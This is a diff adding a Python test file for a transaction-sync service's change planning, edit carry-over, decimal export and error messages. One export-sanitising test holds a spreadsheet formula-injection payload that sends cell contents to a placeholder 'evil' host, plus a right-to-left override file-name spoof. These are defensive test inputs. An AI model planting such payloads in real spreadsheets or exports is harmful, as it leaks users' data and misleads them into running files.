@@ -1,0 +1,110 @@
+"""Pure change planning: what a sync writes, without a database."""
+
+from __future__ import annotations
+
+from services.export import decimal_amount, safe_cell
+from services.sync_apply import ADDED, MODIFIED, NO_EDITS, REMOVED, Edits, Existing, Staged, plan_chunk, referenced_ids
+from services.sync_types import explain
+
+
+def vals(name: str = "SHOP", amount: int = -500, pending: bool = False, pending_id: str | None = None) -> tuple:
+    return (
+        "acc",
+        amount,
+        "USD",
+        None,
+        "2025-03-01",
+        None,
+        name,
+        None,
+        pending,
+        pending_id,
+        "FOOD",
+        "FOOD_OTHER",
+        "online",
+    )
+
+
+EDITED = Edits(category_override="Gifts", note="for mum")
+
+
+def test_added_rows_are_upserted_and_counted() -> None:
+    plan = plan_chunk([Staged(0, ADDED, "a", vals()), Staged(1, ADDED, "b", vals())], {})
+    assert set(plan.upserts) == {"a", "b"} and plan.added == 2 and not plan.history and not plan.deletes
+
+
+def test_replaying_the_same_page_changes_nothing_and_records_no_history() -> None:
+    existing = {"a": Existing(vals())}
+    plan = plan_chunk([Staged(0, ADDED, "a", vals())], existing)
+    assert plan.history == [] and plan.upserts["a"][1] == NO_EDITS
+
+
+def test_ids_differing_only_in_case_are_different_transactions() -> None:
+    plan = plan_chunk([Staged(0, ADDED, "AbC", vals()), Staged(1, ADDED, "abc", vals(amount=-1))], {})
+    assert set(plan.upserts) == {"AbC", "abc"}
+
+
+def test_modified_keeps_user_edits_and_records_old_and_new() -> None:
+    existing = {"a": Existing(vals(name="OLD", amount=-500), EDITED)}
+    plan = plan_chunk([Staged(0, MODIFIED, "a", vals(name="NEW", amount=-700))], existing)
+    assert plan.upserts["a"][1] == EDITED
+    assert ("a", "name", "OLD", "NEW") in plan.history and ("a", "amount_minor", "-500", "-700") in plan.history
+
+
+def test_posted_twin_takes_the_pending_edits_and_the_pending_row_goes() -> None:
+    existing = {"p": Existing(vals(pending=True), EDITED)}
+    chunk = [Staged(0, ADDED, "q", vals(pending_id="p")), Staged(1, REMOVED, "p")]
+    assert referenced_ids(chunk) == {"p", "q"}
+    plan = plan_chunk(chunk, existing)
+    assert plan.upserts["q"][1] == EDITED and "p" in plan.deletes and ("p", "q") in plan.history_moves
+    assert not plan.tombstones
+
+
+def test_removal_first_keeps_edits_until_the_posted_twin_arrives_in_a_later_sync() -> None:
+    first = plan_chunk([Staged(0, REMOVED, "p")], {"p": Existing(vals(pending=True), EDITED)})
+    assert first.deletes == ["p"] and first.tombstones == [("p", EDITED)]
+    later = plan_chunk([Staged(0, ADDED, "q", vals(pending_id="p"))], {}, {"p": EDITED})
+    assert later.upserts["q"][1] == EDITED and later.tombstones_used == ["p"]
+
+
+def test_unedited_pending_removal_leaves_no_tombstone() -> None:
+    plan = plan_chunk([Staged(0, REMOVED, "p")], {"p": Existing(vals(pending=True))})
+    assert plan.deletes == ["p"] and plan.tombstones == []
+
+
+def test_removing_an_unknown_id_is_harmless() -> None:
+    plan = plan_chunk([Staged(0, REMOVED, "ghost")], {})
+    assert plan.deletes == [] and plan.removed == 1
+
+
+def test_removed_then_sent_again_in_one_chunk_keeps_the_later_change() -> None:
+    plan = plan_chunk([Staged(0, REMOVED, "a"), Staged(1, ADDED, "a", vals())], {"a": Existing(vals(name="X"))})
+    assert "a" in plan.upserts and "a" not in plan.deletes
+
+
+def test_posted_row_already_edited_keeps_its_own_edits() -> None:
+    own = Edits(note="mine")
+    existing = {"p": Existing(vals(pending=True), EDITED), "q": Existing(vals(pending_id="p"), own)}
+    plan = plan_chunk([Staged(0, MODIFIED, "q", vals(pending_id="p", amount=-9))], existing)
+    assert plan.upserts["q"][1] == own and plan.carry == []
+
+
+def test_export_cells_neutralise_formulas_and_strip_controls() -> None:
+    assert safe_cell('=HYPERLINK("http://evil/?"&A1,"Refund")').startswith("'=")
+    assert safe_cell("+1") == "'+1" and safe_cell("@SUM(A1)") == "'@SUM(A1)"
+    assert safe_cell("PayPal \u202egnp.exe") == "PayPal gnp.exe" and safe_cell("ACME\x00\x07") == "ACME"
+    assert safe_cell("Uber Eats 🍔") == "Uber Eats 🍔" and safe_cell(None) == ""
+
+
+def test_export_amounts_are_exact_decimals_with_the_statement_sign() -> None:
+    assert decimal_amount(-1250, "USD") == "-12.50"
+    assert decimal_amount(3, "USD") == "0.03"
+    assert decimal_amount(-1200, "JPY") == "-1200"
+    assert decimal_amount(-1, "KWD") == "-0.001"
+
+
+def test_failures_are_explained_with_a_fix() -> None:
+    what, fix = explain("ITEM_LOGIN_REQUIRED")
+    assert "sign in again" in what and "Repair" in fix
+    assert "slow down" in explain("TRANSACTIONS_SYNC_LIMIT")[0]
+    assert explain(None) == ("", "")
